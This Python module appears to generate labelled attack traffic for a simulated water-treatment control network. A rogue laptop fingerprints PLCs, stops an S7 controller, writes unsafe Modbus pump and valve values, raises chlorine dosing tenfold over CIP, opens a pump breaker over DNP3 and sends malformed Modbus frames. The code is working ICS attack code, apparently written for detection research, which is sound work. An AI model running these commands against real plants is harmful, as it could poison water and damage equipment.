"""The unknown laptop in the control zone: looks around, stops a controller, writes what it should not."""

from __future__ import annotations

import socket

import snap7
from cpppo.server.enip import client as enip
from pymodbus.client import ModbusTcpClient

from .. import clock, timeline
from ..actlog import act
from ..plan import LAPTOP_ADDRESS, ip_of
from .dnp3 import Master
from .engineering import check_cip, check_modbus, check_s7
from .layer2 import identify_all, nbns_announce
from .office import wait_for_lease
from .scada import send

ME = LAPTOP_ADDRESS
LAPTOP_DNP3_ADDRESS = 1  # uses the real master's link address
MALFORMED_FRAMES = (
    "0001 0007 0006 01 03 0000 0002",        # protocol id is not 0
    "0002 0000 0002 01 64",                  # function 100 does not exist
    "0003 0000 0003 01 10 00",               # write multiple registers, cut off
    "0004 0000 00ff 01 03 0000 0002",        # length says 255
    "0005 0000 0009 01 10 0000 0001 08 00",  # byte count does not fit the quantity
    "0006 0000 0006 01 03 0000 07d0",        # 2000 registers in one read
)


def identify() -> None:
    """Ask every controller who it is."""
    identify_all(0x4C4C0001)
    clock.sleep(20)
    check_modbus(ip_of("plc-intake"))
    check_modbus(ip_of("rio-reservoir"))
    clock.sleep(30)
    check_s7(ip_of("plc-filters"))
    clock.sleep(30)
    check_cip(ip_of("plc-dosing"))


def stop_controller() -> None:
    """Stop the CPU of the filters."""
    client = snap7.client.Client()
    client.connect(ip_of("plc-filters"), 0, 2)
    client.plc_stop()
    act("s7comm", "plc_stop", "control", src=ME, dst=ip_of("plc-filters"), target="")
    clock.sleep(15)
    client.read_szl(0x0424)
    client.disconnect()


def unsafe_modbus() -> None:
    """Pumps far over their usual speed, valve shut, both pumps on."""
    client = ModbusTcpClient(ip_of("plc-intake"), timeout=3)
    client.connect()
    client.read_holding_registers(0, count=3)
    clock.sleep(8)
    client.write_register(0, 2950)
    act("modbus", "write_single_register", "write", src=ME, dst=ip_of("plc-intake"),
        target="holding_register 0", value=2950)
    clock.sleep(20)
    client.write_registers(1, [495, 5])
    act("modbus", "write_multiple_registers", "write", src=ME, dst=ip_of("plc-intake"),
        target="holding_register 1-2", value=[495, 5])
    clock.sleep(12)
    client.write_coil(1, True)
    act("modbus", "write_single_coil", "write", src=ME, dst=ip_of("plc-intake"), target="coil 1", value=True)
    client.close()


def unsafe_cip() -> None:
    """Ten times the usual chlorine."""
    connection = enip.connector(host=ip_of("plc-dosing"), timeout=5)
    for tags in (["Chlorine_Dose_SP"], ["Chlorine_Dose_SP=(REAL)8.5"]):
        with connection:
            list(connection.synchronous(operations=enip.parse_operations(tags), timeout=5))
        clock.sleep(6)
    act("cip", "write_tag", "write", src=ME, dst=ip_of("plc-dosing"), target="Chlorine_Dose_SP", value=8.5)
    connection.close()


def unsafe_dnp3() -> None:
    """Open the breaker of the booster pump."""
    master = Master(LAPTOP_DNP3_ADDRESS)
    clock.sleep(9)
    send(master, ME, "DirectOperate", "latch_off", 0, False)
    master.close()


def malformed() -> None:
    """Modbus frames that no client should send."""
    for text in MALFORMED_FRAMES:
        try:
            with socket.create_connection((ip_of("plc-intake"), 502), 2) as connection:
                connection.settimeout(0.4)
                connection.sendall(bytes.fromhex(text.replace(" ", "")))
                connection.recv(512)
        except OSError:
            pass
        clock.sleep(4)


def main() -> None:
    """The attack in its order."""
    wait_for_lease(ME)
    nbns_announce("LAPTOP-7Q2K", ME, "10.20.10.255")
    for minute, step in ((timeline.LAPTOP_IDENTIFIES, identify),
                         (timeline.CONTROLLER_STOP, stop_controller),
                         (timeline.UNSAFE_MODBUS, unsafe_modbus), (timeline.UNSAFE_CIP, unsafe_cip),
                         (timeline.UNSAFE_DNP3, unsafe_dnp3), (timeline.MALFORMED, malformed)):
        timeline.wait_until(minute)
        step()


